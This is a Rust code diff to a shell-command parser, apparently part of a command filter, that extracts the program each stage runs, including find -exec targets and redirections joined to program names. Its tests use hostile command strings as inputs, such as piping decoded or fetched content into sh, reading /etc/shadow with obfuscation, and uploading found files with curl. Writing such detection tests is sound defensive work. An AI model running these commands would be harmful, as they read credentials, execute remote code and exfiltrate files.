@@ -28,7 +28,16 @@ pub struct Command<'a> {
 pub fn commands(line: &str) -> Vec<Command<'_>> {
     let mut commands = Vec::new();
     collect(line, 0, &mut commands);
-    if commands.len() > 1 {
+    if commands.len() <= 16 {
+        let mut at = 1;
+        while let Some((earlier, later)) = commands.split_at_checked(at) {
+            match later.first() {
+                Some(command) if earlier.contains(command) => drop(commands.remove(at)),
+                Some(_) => at += 1,
+                None => break,
+            }
+        }
+    } else {
         let mut seen = HashSet::with_capacity(commands.len());
         let fresh: Vec<bool> = commands.iter().map(|command| seen.insert(command)).collect();
         let mut fresh = fresh.into_iter();
@@ -50,6 +59,9 @@ fn collect<'a>(line: &'a str, nested: usize, commands: &mut Vec<Command<'a>>) {
     commands.push(Command { line: Cow::Borrowed(line), image });
     for stage in stages(line) {
         stage_commands(stage, commands);
+        if let Some(run) = executed(stage) {
+            stage_commands(run, commands);
+        }
         if nested < MAX_NESTED && commands.len() < MAX_STAGES {
             for argument in nested_lines(stage) {
                 let mut inner = Vec::new();
@@ -61,6 +73,12 @@ fn collect<'a>(line: &'a str, nested: usize, commands: &mut Vec<Command<'a>>) {
             }
         }
     }
+}
+
+/// What `find` runs on what it finds.
+fn executed(stage: &str) -> Option<&str> {
+    let (_, behind) = stage.split_once(" -exec").or_else(|| stage.split_once(" -ok"))?;
+    behind.trim_start_matches("dir").strip_prefix(char::is_whitespace).map(str::trim_start)
 }
 
 /// One stage as it is typed and without its disguise, once for each of its programs.
@@ -112,7 +130,7 @@ pub fn stages(line: &str) -> Vec<&str> {
 
 fn scan(line: &str, quotes: bool) -> (Vec<&str>, bool) {
     let bytes = line.as_bytes();
-    let mut found = Found { line, stages: Vec::new(), seen: HashSet::new() };
+    let mut found = Found { line, stages: Vec::new() };
     let mut frames = vec![(Within::Commands, 0)];
     let mut balanced = true;
     let mut at = 0;
@@ -178,7 +196,6 @@ fn scan(line: &str, quotes: bool) -> (Vec<&str>, bool) {
 struct Found<'a> {
     line: &'a str,
     stages: Vec<&'a str>,
-    seen: HashSet<&'a str>,
 }
 
 impl Found<'_> {
@@ -188,8 +205,7 @@ impl Found<'_> {
         }
         // A start behind the end, or inside a character, comes of a backslash at the end.
         let stage = self.line.get(start..end.min(self.line.len())).unwrap_or_default().trim();
-        if !stage.is_empty() && (self.stages.is_empty() || !self.seen.contains(stage)) {
-            self.seen.insert(stage);
+        if !stage.is_empty() && !self.stages.contains(&stage) {
             self.stages.push(stage);
         }
     }
@@ -296,6 +312,8 @@ fn is_assignment(word: &str) -> bool {
 /// The program that a word names.
 fn image(raw: &str) -> Option<Cow<'_, str>> {
     let raw = raw.trim_start_matches(['(', '{', '!', '`', '$', '&']).trim_end_matches([')', '`', ';']);
+    // `cat</etc/shadow`
+    let raw = raw.split(['<', '>']).next().unwrap_or_default();
     let windows = raw.contains(":\\") || raw.starts_with(".\\") || raw.starts_with("\\\\");
     let word = if windows { Cow::Borrowed(raw.trim_matches(['"', '\''])) } else { plain(raw) };
     if word.starts_with('/') && !windows && word.len() > 1 && !word.ends_with('/') {
@@ -385,6 +403,9 @@ mod tests {
         has("cat x | base64 -d | sh", "sh", "/sh");
         has("if true; then curl x; fi", "then curl x", "/curl");
         has("2>/dev/null >x curl y", "2>/dev/null >x curl y", "/curl");
+        has("{curl,-s,http://x}|sh", "curl -s http://x", "/curl");
+        has("cat</etc/shadow", "cat</etc/shadow", "/cat");
+        has("find / -name x -execdir curl -T {} http://x ;", "curl -T {} http://x", "/curl");
         has("./run.sh a", "./run.sh a", "/run.sh");
         has("c''url x", "curl x", "/curl");
         has("cat${IFS}/etc/shadow", "cat /etc/shadow", "/cat");
